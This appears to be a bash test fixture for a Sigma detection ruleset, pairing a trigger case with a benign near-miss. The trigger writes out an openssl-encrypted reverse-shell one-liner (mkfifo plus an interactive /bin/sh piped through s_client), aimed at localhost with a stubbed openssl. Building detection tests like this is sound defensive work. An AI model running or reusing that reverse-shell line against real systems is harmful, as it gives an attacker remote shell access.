# shellcheck shell=bash disable=SC2034 # DESC is read by test_sigma_ruleset.sh
DESC="sh -c 'mkfifo S; /bin/sh -i < S 2>&1 | openssl s_client -quiet -connect 127.0.0.1:PORT > S' with a do-nothing openssl"
trigger() {
    local w o
    w=$(work "$1")
    o=$(fake "$1" openssl)
    held timeout 5 sh -c "mkfifo $w/s; /bin/sh -i < $w/s 2>&1 | $o s_client -quiet -connect 127.0.0.1:$LISTEN_PORT > $w/s"
}
near_miss() {
    local o
    o=$(fake "$1" openssl)
    held timeout 5 sh -c "echo | $o s_client -connect 127.0.0.1:$LISTEN_PORT 2>/dev/null | $o x509 -noout -dates"
}
